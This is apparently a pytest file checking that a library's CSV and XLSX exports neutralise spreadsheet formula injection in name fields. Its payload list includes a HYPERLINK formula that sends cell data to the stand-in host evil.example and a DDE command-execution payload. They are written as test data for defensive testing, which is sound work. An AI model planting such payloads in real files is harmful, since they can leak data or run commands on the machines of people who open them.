"""Names that would be formulas, written to a file and read back from it."""

import csv
from datetime import date
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from xlsxwriter import Workbook

from mesotrain.formats import sheets

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",  # noqa: RUF001
]
HARMLESS = ["Anne-Marie O'Hara", "a=b", '"quoted", with a comma; and more', "Élodie", "https://example.org", "007", ""]
ROWS: list[sheets.Row] = [["Name", "Until"], *([text, date(2027, 3, 12)] for text in FORMULAS + HARMLESS)]


def from_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_begins_a_formula(text: str) -> None:
    _, (name, _) = from_csv(sheets.csv([["Name", "Until"], [text, None]]))
    assert name == f"'{text}"
    for field in sheets.csv([[text, None]]).decode("utf-8-sig").split(","):
        assert not field.lstrip('"').lstrip().startswith(sheets.BEGINS_A_FORMULA)


def test_what_is_harmless_stays_as_it_is_in_a_csv() -> None:
    found = from_csv(sheets.csv(ROWS))
    assert [name for name, _ in found[-len(HARMLESS) :]] == HARMLESS
    assert {day for _, day in found[1:]} == {"2027-03-12"}


def test_every_text_of_a_workbook_is_text_and_every_day_a_day() -> None:
    sheet = load_workbook(BytesIO(sheets.xlsx(ROWS))).active
    for (name, day), (said, _) in zip(sheet.iter_rows(min_row=2), ROWS[1:], strict=True):
        assert name.data_type == "s"
        assert unescape(name.value or "") == said
        assert name.hyperlink is None
        assert day.is_date
        assert day.value.date() == date(2027, 3, 12)
    assert sheet.freeze_panes == "B2"


def test_a_formula_in_a_workbook_would_be_seen_control() -> None:
    content = BytesIO()
    with Workbook(content) as book:
        book.add_worksheet().write(0, 0, FORMULAS[0])
    assert load_workbook(content).active["A1"].data_type == "f"
